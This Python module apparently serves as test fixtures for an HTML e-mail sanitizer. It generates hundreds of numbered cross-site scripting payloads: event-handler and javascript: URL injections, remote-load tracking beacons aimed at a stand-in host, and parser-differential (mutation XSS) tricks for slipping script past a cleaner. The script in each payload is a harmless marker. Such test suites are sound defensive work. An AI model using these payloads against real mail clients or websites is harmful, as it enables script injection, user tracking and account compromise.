"""HTML of hostile e-mails. In each payload RUN stands for a script that reports its number, and OUT for the host of a
stranger who wants to hear of the reader.

The list is built from kinds of attacks: what runs, what is followed, what is loaded, and how it is hidden from a
cleaner that reads HTML in another way than the browser.
"""

from __future__ import annotations

import base64

OUT_HOST = "outside.example"

# Elements that run a script by themselves: an error, a load, the focus, an animation.
_BY_THEMSELVES = r"""
<img src=x onerror=RUN>
<img src="x" onerror="RUN">
<img src='x' onerror='RUN'>
<IMG SRC=x ONERROR=RUN>
<img/src=x/onerror=RUN>
<img src=x onerror=RUN//
<img src=x onerror=RUN <p>more
<img src=`x` onerror=RUN>
<img src onerror=RUN>
<img src=x:x onerror=RUN>
<img src=data: onerror=RUN>
<img src=x:alert onerror="eval('RUN')">
<img alt="<x" title='/>' src=x onerror=RUN>
<img src=x style="animation-name:x" onerror=RUN>
<img srcset=x onerror=RUN>
<img srcset=",,x 1x" onerror=RUN>
<img src=cid:missing onerror=RUN>
<image src=x onerror=RUN>
<picture><source srcset=x><img onerror=RUN></picture>
<picture><img srcset=x onerror=RUN></picture>
<audio src=x onerror=RUN>
<audio><source src=x onerror=RUN></audio>
<video src=x onerror=RUN>
<video><source onerror=RUN src=x></video>
<video poster=x src=x onerror=RUN></video>
<input type=image src=x onerror=RUN>
<object data=x onerror=RUN></object>
<embed src=x onerror=RUN>
<script src=x onerror=RUN></script>
<link rel=stylesheet href=x onerror=RUN>
<link rel=stylesheet href=data:text/css, onload=RUN>
<style onload=RUN></style>
<style onload=RUN>a{}</style>
<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=RUN>a</b>
<style>@keyframes k{from{left:0}}</style><p style="animation-name:k;animation-duration:1ms" onanimationend=RUN>a</p>
<style>:target{color:red}</style><i id=x style="transition:color 1ms" ontransitionend=RUN>a</i>
<body onload=RUN>
<body onpageshow=RUN>
<body onfocus=RUN>
<body onhashchange=RUN>
<body onresize=RUN><iframe></iframe>
<body onscroll=RUN><br style="height:9999px"><input autofocus>
<frameset onload=RUN><frame src=x></frameset>
<iframe onload=RUN></iframe>
<iframe src=x onload=RUN></iframe>
<iframe srcdoc="<img src=x onerror=RUN>"></iframe>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe srcdoc="&lt;svg onload=&quot;RUN&quot;&gt;"></iframe>
<iframe src="javascript:RUN"></iframe>
<iframe src="java&Tab;script:RUN"></iframe>
<iframe src="data:text/html,<script>RUN</script>"></iframe>
<frameset><frame src="javascript:RUN"></frameset>
<object data="javascript:RUN"></object>
<object data="data:text/html,<script>RUN</script>"></object>
<object type="text/html" data="javascript:RUN"></object>
<embed src="javascript:RUN">
<embed src="data:text/html,<script>RUN</script>">
<embed code="javascript:RUN" type="text/html">
<svg onload=RUN>
<svg/onload=RUN>
<svg onload="RUN"><rect/></svg>
<svg><g onload=RUN></g></svg>
<svg><script>RUN</script></svg>
<svg><script href="data:,RUN"/></svg>
<svg><script xlink:href="data:,RUN"></script></svg>
<svg><image href=x onerror=RUN></image></svg>
<svg><image xlink:href=x onerror=RUN></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><animate attributeName=x dur=1ms onend=RUN></svg>
<svg><set onbegin=RUN attributeName=x></svg>
<svg><animateTransform onbegin=RUN attributeName=transform dur=1s></svg>
<svg><style onload=RUN></style></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='SVG'><image href='x' onerror='RUN'/></svg>#x"/></svg>
<svg><discard onbegin=RUN></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg><desc><img src=x onerror=RUN></desc></svg>
<math><mtext><img src=x onerror=RUN></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
<math onload=RUN><mi>x</mi></math>
<details open ontoggle=RUN>a</details>
<details ontoggle=RUN open><summary>a</summary>b</details>
<dialog open onclose=RUN><form method=dialog><button autofocus>a</button></form></dialog>
<marquee onstart=RUN>a</marquee>
<marquee loop=1 width=0 onfinish=RUN>a</marquee>
<input autofocus onfocus=RUN>
<input autofocus onfocusin=RUN>
<input onblur=RUN autofocus><input autofocus>
<select autofocus onfocus=RUN><option>a</select>
<textarea autofocus onfocus=RUN>a</textarea>
<button autofocus onfocus=RUN>a</button>
<keygen autofocus onfocus=RUN>
<a href=# autofocus onfocus=RUN>a</a>
<p tabindex=0 autofocus onfocus=RUN>a</p>
<p contenteditable autofocus onfocus=RUN>a</p>
<x tabindex=1 autofocus onfocus=RUN>a</x>
<custom-element onload=RUN autofocus tabindex=0 onfocus=RUN></custom-element>
<audio autoplay onplay=RUN src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAEAfAAABAAgAZGF0YQAAAAA=">
<video autoplay onloadstart=RUN src=x></video>
<video onloadstart=RUN><source></video>
<track onerror=RUN src=x default>
<video><track default src=x onerror=RUN></video>
<isindex type=image src=x onerror=RUN>
<table background="x" onload=RUN><tr><td>a</table>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv="refresh" content="0; url=data:text/html,<script>RUN</script>">
<base href="javascript:RUN//"><img src=x onerror=RUN>
<script>RUN</script>
<script type=module>RUN</script>
<script>/**/RUN</script >
<SCRIPT>RUN</SCRIPT>
<script/x>RUN</script>
<script src="data:,RUN"></script>
<script src="data:text/javascript;base64,B64RUN"></script>
<<script>RUN//<</script>
<scr<script>ipt>RUN</scr</script>ipt>
<script\t>RUN</script\t>
<script a=">" >RUN</script>
<script language=vbscript>RUN</script>
<xml id=x><b onload=RUN></b></xml>
<portal src="javascript:RUN"></portal>
<template><img src=x onerror=RUN></template><img src=x onerror=RUN>
<slot onslotchange=RUN>a</slot>
<p popover id=x onbeforetoggle=RUN>a</p><button popovertarget=x autofocus>b</button>
<p style="content-visibility:auto" oncontentvisibilityautostatechange=RUN>a</p>
<p hidden=until-found onbeforematch=RUN>a</p>
<img src=x on error=RUN onerror=RUN>
<img src=x onerror&#61;RUN onerror=RUN>
<img src=x onerror="&#x52;UN" onerror=RUN>
<img src=x oNeRrOr=RUN>
<img src=x onerror\n=\nRUN>
<img\x0csrc=x\x0conerror=RUN>
<img src=x \x0bonerror=RUN onerror=RUN>
<img \x00src=x onerror=RUN>
<img src=x onerror\x00=RUN onerror=RUN>
<im\x00g src=x onerror=RUN><img src=x onerror=RUN>
<img src=x onerror="top['r'+'an'];RUN">
<img src=x onerror=window.onerror=eval;RUN>
<img src=x onerror="(()=>{RUN})()">
"""

# Links, and what else is followed after a click.
_ADDRESSES = r"""
javascript:RUN
JaVaScRiPt:RUN
javascript:RUN//http://a.example
javascript://a.example/%0aRUN
 javascript:RUN
\tjavascript:RUN
\x01javascript:RUN
\x1fjavascript:RUN
&#1;javascript:RUN
&nbsp;javascript:RUN
java\tscript:RUN
java\nscript:RUN
java&#x0A;script:RUN
java&#13;script:RUN
java&Tab;script:RUN
java&NewLine;script:RUN
javascript&colon;RUN
javascript&#58;RUN
&#106;&#97;&#118;&#97;script:RUN
&#x6A&#x61&#x76&#x61script:RUN
&#0000106avascript:RUN
javascript&#x3A;RUN
javascript\t:RUN
javascript:\u2028RUN
\ufeffjavascript:RUN
\u3000javascript:RUN
vbscript:RUN
livescript:RUN
mocha:RUN
feed:javascript:RUN
view-source:javascript:RUN
jar:javascript:RUN!/
blob:javascript:RUN
filesystem:javascript:RUN
data:text/html,<script>RUN</script>
data:text/html;base64,B64PAGE
data:text/html;charset=utf-8,%3Cscript%3ERUN%3C/script%3E
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>
data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>RUN</x:script>
data:,RUN
//javascript:RUN
http:javascript:RUN
mailto:a@b.example?body=<script>RUN</script>
intent:#Intent;scheme=javascript;end
file:///etc/passwd
chrome://settings
about:blank
x-apple:RUN
"""
_FOLLOWING = (
    '<a href="{}">a</a>',
    '<svg><a xlink:href="{}"><text y=20>a</text></a></svg>',
    '<form action="{}"><button>a</button></form>',
    '<form><button formaction="{}">a</button></form>',
    '<map name=m><area shape=default href="{}"></map><img usemap="#m" width=9 height=9>',
    '<math href="{}"><mi>a</mi></math>',
)

# Everything that makes the browser ask another host, without a click.
_LOADING = r"""
<img src=OUT/1.png>
<img src="OUT/2.png" width=1 height=1>
<img src="HTTP://outside.example/3.png">
<img src="//outside.example/4.png">
<img src="\\\\outside.example\\5.png">
<img src="/\\outside.example/6.png">
<img src="http:\\\\outside.example/7.png">
<img src="http:/outside.example/8.png">
<img src="\thttp://outside.example/9.png">
<img src="ht\ntp://outside.example/10.png">
<img src="ftp://outside.example/11.png">
<img src="&#104;ttp://outside.example/12.png">
<img srcset="OUT/13.png 1x, OUT/13b.png 2x">
<img sizes=1px srcset="OUT/14.png 100w">
<img lowsrc=OUT/15.png>
<img dynsrc=OUT/16.png>
<img longdesc=OUT/17 src=OUT/17.png>
<img src=data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='OUT/18.png'/%3E%3C/svg%3E>
<image src=OUT/19.png>
<picture><source srcset=OUT/20.png><img></picture>
<input type=image src=OUT/21.png>
<video src=OUT/22.mp4 autoplay></video>
<video poster=OUT/23.png></video>
<audio src=OUT/24.mp3 preload=auto></audio>
<video><source src=OUT/25.mp4></video>
<video src=x><track default kind=captions src=OUT/26.vtt></video>
<iframe src=OUT/27></iframe>
<iframe srcdoc="<img src=OUT/28.png>"></iframe>
<frameset><frame src=OUT/29></frameset>
<object data=OUT/30.svg></object>
<object><param name=src value=OUT/31></object>
<embed src=OUT/32.swf>
<applet codebase=OUT/33 code=a></applet>
<link rel=stylesheet href=OUT/34.css>
<link rel=icon href=OUT/35.ico>
<link rel=preload as=image href=OUT/36.png>
<link rel=prefetch href=OUT/37>
<link rel=modulepreload href=OUT/38.js>
<link rel=manifest href=OUT/39.json>
<link rel=dns-prefetch href=OUT/40><link rel=preconnect href=OUT/40>
<link rel=import href=OUT/41.html>
<script src=OUT/42.js></script>
<style>@import url(OUT/43.css);</style>
<style>@import "OUT/44.css";</style>
<style>body{background:url(OUT/45.png)}</style>
<style>@font-face{font-family:x;src:url(OUT/46.woff)}*{font-family:x}</style>
<style>p:before{content:url(OUT/47.png)}</style><p>a</p>
<p style="background:url(OUT/48.png)">a</p>
<p style="background:#fff url('OUT/49.png') no-repeat">a</p>
<p style="background-image:url(OUT/50.png)">a</p>
<p style="background-image:\\75\\72\\6c(OUT/51.png)">a</p>
<p style="background-color:red;background-image:url(&quot;OUT/52.png&quot;)">a</p>
<p style="background-image:image-set('OUT/53.png' 1x)">a</p>
<p style="background-image:-webkit-image-set(url(OUT/54.png) 1x)">a</p>
<p style="background-image:cross-fade(url(OUT/55.png),url(OUT/55.png))">a</p>
<p style="list-style:url(OUT/56.png);display:list-item">a</p>
<p style="list-style-image:url(OUT/57.png);display:list-item">a</p>
<p style="border-image:url(OUT/58.png) 1;border:1px solid">a</p>
<p style="border-image-source:url(OUT/59.png);border:1px solid">a</p>
<p style="cursor:url(OUT/60.cur),auto">a</p>
<p style="mask:url(OUT/61.svg)">a</p>
<p style="filter:url(OUT/62.svg#x)">a</p>
<p style="clip-path:url(OUT/63.svg#x)">a</p>
<p style="shape-outside:url(OUT/64.png);float:left">a</p>
<p style="content:url(OUT/65.png)">a</p>
<p style="--x:url(OUT/66.png);background:var(--x)">a</p>
<p style="color:red;/*;*/background:url(OUT/67.png)">a</p>
<p style="background:u/**/rl(OUT/68.png);background:url(OUT/68.png)">a</p>
<p style="width:expression(RUN)">a</p>
<p style="behavior:url(OUT/69.htc)">a</p>
<p style="-moz-binding:url(OUT/70.xml#x)">a</p>
<p style="background:URL(OUT/71.png)">a</p>
<p style='background:url("OUT/72.png'>a</p>
<p style="background:url(OUT/73.png">a</p>
<p style="font-family:'a;background:url(OUT/74.png)'">a</p>
<p style="color:red}*{background:url(OUT/75.png)}">a</p>
<body background=OUT/76.png>
<table background=OUT/77.png><tr><td>a</table>
<table><tr><td background="OUT/78.png">a</td></tr></table>
<table><tr background=OUT/79.png><td>a</table>
<bgsound src=OUT/80.wav>
<base href=OUT/81/><img src=a.png>
<base href=OUT/82/><p style="background:url(a.png)">a</p>
<meta http-equiv=refresh content="0;url=OUT/83">
<meta http-equiv=set-cookie content="a=b"><img src=OUT/84.png>
<meta http-equiv=Content-Security-Policy content="report-uri OUT/85; default-src 'none'"><img src=OUT/85.png>
<svg><image href=OUT/86.png width=9 height=9 /></svg>
<svg><image xlink:href=OUT/87.png width=9 height=9 /></svg>
<svg><use href=OUT/88.svg#x /></svg>
<svg><filter id=f><feImage href=OUT/89.png /></filter><rect filter=url(#f) width=9 height=9 /></svg>
<svg><style>*{fill:url(OUT/90.svg#x)}</style><rect width=9 height=9 /></svg>
<svg><rect fill="url(OUT/91.svg#x)" width=9 height=9 /></svg>
<svg><foreignObject width=9 height=9><img src=OUT/92.png></foreignObject></svg>
<svg><script href=OUT/93.js></script></svg>
<math><mtext><img src=OUT/94.png></mtext></math>
<math><mglyph src=OUT/95.png /></math>
<html manifest=OUT/96.appcache><img src=OUT/96.png>
<head profile=OUT/97><img src=OUT/97.png></head>
<portal src=OUT/98></portal>
<a href=OUT/99 ping=OUT/99ping rel=prerender>a</a><img src=OUT/99.png>
<blockquote cite=OUT/100><img src=OUT/100.png></blockquote>
<fencedframe src=OUT/101></fencedframe><img src=OUT/101.png>
<v:fill src=OUT/102.png /><v:imagedata src=OUT/102.png /><img src=OUT/102.png>
<!--[if mso]><img src=OUT/103.png><![endif]--><!--[if !mso]><!--><img src=OUT/103.png><!--<![endif]-->
"""

# Texts that a cleaner and a browser may read in different ways.
_TWO_READINGS = r"""
<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
<noscript><img src=x onerror=RUN></noscript>
<title><img title="</title><img src=x onerror=RUN>"></title>
<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>
<style><p title="</style><img src=x onerror=RUN>"></style>
<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>
<noembed><p title="</noembed><img src=x onerror=RUN>"></noembed>
<noframes><p title="</noframes><img src=x onerror=RUN>"></noframes>
<iframe><p title="</iframe><img src=x onerror=RUN>"></iframe>
<plaintext><img src=x onerror=RUN>
<script><p title="</script><img src=x onerror=RUN>"></script>
<select><p title="</select><img src=x onerror=RUN>"></select>
<template><p title="</template><img src=x onerror=RUN>"></template>
<svg><style><img title="</style><img src=x onerror=RUN>"></svg>
<svg></p><style><a title="</style><img src=x onerror=RUN>">
<svg><p><style><a title="</style><img src=x onerror=RUN>">
<svg><desc><noscript><a title="</noscript><img src=x onerror=RUN>"></desc></svg>
<math><style><a title="</style><img src=x onerror=RUN>"></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<math><mtext><table><mglyph><style><math><img title="</style><img src=x onerror=RUN>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
<math><mi><table><mi><malignmark><style><a title="</style><img src=x onerror=RUN>">
<svg><annotation-xml><foreignobject><style><!--</style><p title="--><img src=x onerror=RUN>">
<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=RUN>"></math>
<svg><foreignobject><math><mtext><style><a title="</style><img src=x onerror=RUN>">
<table><svg><style><a title="</style><img src=x onerror=RUN>">
<p><svg><title><style><a title="</style></title></svg><img src=x onerror=RUN>">
<!--><img src=x onerror=RUN>-->
<!---><img src=x onerror=RUN>-->
<!-- --!><img src=x onerror=RUN>-->
<!-- <!-- --><img src=x onerror=RUN> -->
<!-- a -- b --><img src=x onerror=RUN>
<![CDATA[><img src=x onerror=RUN>]]>
<svg><![CDATA[<img src=x onerror=RUN>]]></svg>
<svg><![CDATA[]]><img src=x onerror=RUN>]]></svg>
<?xml version="1.0"?><img src=x onerror=RUN>
<?php echo '>'; ?><img src=x onerror=RUN>
<!doctype html [<!ENTITY x "<img src=x onerror=RUN>">]>&x;<img src=x onerror=RUN>
<! ><img src=x onerror=RUN>
</ ><img src=x onerror=RUN>
</p/><img src=x onerror=RUN>
<%<img src=x onerror=RUN>%>
<a title="<img src=x onerror=RUN>" href=x>a</a><img src=x onerror=RUN>
<a title='"><img src=x onerror=RUN>'>a</a>
<a title="&quot;&gt;&lt;img src=x onerror=RUN&gt;">a</a>
<a title="`><img src=x onerror=RUN>">a</a><img src=x onerror=RUN>
<p title=a"><img src=x onerror=RUN>
<p title='a"'><img src=x onerror=RUN>
<p "><img src=x onerror=RUN>">
<p =><img src=x onerror=RUN>
<p/"/onclick=RUN><img src=x onerror=RUN>
<img "'"><script>RUN</script>">
<img src="a" title="b">" onerror=RUN src=x><img src=x onerror=RUN>
<a<b><img src=x onerror=RUN>
<b <img src=x onerror=RUN>
< img src=x onerror=RUN><img src=x onerror=RUN>
&lt;img src=x onerror=RUN&gt;<img src=x onerror=RUN>
%3Cimg src=x onerror=RUN%3E<img src=x onerror=RUN>
\\x3cimg src=x onerror=RUN\\x3e<img src=x onerror=RUN>
+ADw-img src=x onerror=RUN+AD4-<img src=x onerror=RUN>
\uff1cimg src=x onerror=RUN\uff1e<img src=x onerror=RUN>
\x00<img src=x onerror=RUN>
\ufeff<img src=x onerror=RUN>
<table><td><img src=x onerror=RUN></table>
<table><a href=x><img src=x onerror=RUN></a><tr>
<select><option><img src=x onerror=RUN></select>
<select></select><img src=x onerror=RUN></select>
<select><keygen><img src=x onerror=RUN></select>
<frameset><noframes><img src=x onerror=RUN></noframes></frameset>
<button><p><button><img src=x onerror=RUN>
<a><a><b><a><img src=x onerror=RUN>
<b><p><i></b></p><img src=x onerror=RUN></i>
<nobr><nobr><p><img src=x onerror=RUN>
<ruby><rtc><img src=x onerror=RUN></ruby>
<dl><dd><template><dd><img src=x onerror=RUN></template><img src=x onerror=RUN></dl>
<details><template shadowrootmode=open><img src=x onerror=RUN></template></details>
<p><template shadowrootmode=open><slot></slot><script>RUN</script></template>a</p>
<form id=x></form><input form=x name=action formaction=javascript:RUN><img src=x onerror=RUN>
<form name=body><input name=attributes><img src=x onerror=RUN></form>
<a id=top><a id=top name=ran href=x><img src=x onerror=RUN></a>
<img name=getElementById><img name=cookie><img src=x onerror=RUN>
<iframe name=ran srcdoc="<a id=push>"></iframe><img src=x onerror=RUN>
<isindex prompt="<img src=x onerror=RUN>"><img src=x onerror=RUN>
<listing>&lt;img src=x onerror=RUN&gt;</listing><img src=x onerror=RUN>
<style>*{x:'<!--'}</style><img src=x onerror=RUN>--></style>
<style>/*</style><img src=x onerror=RUN>*/</style>
<svg><script>/*&#42;/RUN/*&#42;/</script></svg>
<svg><script>&#82;UN;RUN</script></svg>
<svg><a><animate attributeName=href values="javascript:RUN"></animate><text y=20>a</text></a></svg>
<svg><a><set attributeName=href to="javascript:RUN"></set><text y=20>a</text></a></svg>
"""


def payloads(out_host: str) -> list[str]:
    """All payloads, each once, with their number in RUN and this host in OUT."""
    lines = [*_lines(_BY_THEMSELVES), *_lines(_TWO_READINGS), *_lines(_LOADING)]
    addresses = _lines(_ADDRESSES)
    lines += [_FOLLOWING[0].format(address) for address in addresses]
    # The first addresses in every other place that is followed.
    lines += [place.format(address) for place in _FOLLOWING[1:] for address in addresses[:4]]
    numbered = [_numbered(line, number) for number, line in enumerate(dict.fromkeys(lines))]
    return [line.replace("OUT", f"http://{OUT_HOST}").replace(OUT_HOST, out_host) for line in numbered]


def _lines(text: str) -> list[str]:
    """The lines of a list, with their escapes (such as of a line break within a payload) read."""
    return [line.encode().decode("unicode_escape") for line in text.splitlines() if line]


def _numbered(payload: str, number: int) -> str:
    run = f"top.ran.push({number})"
    code = base64.b64encode(run.encode()).decode()
    document = base64.b64encode(f"<script>{run}</script>".encode()).decode()
    for name, value in (("B64RUN", code), ("B64PAGE", document), ("SVG", "http://www.w3.org/2000/svg"), ("RUN", run)):
        payload = payload.replace(name, value)
    return payload
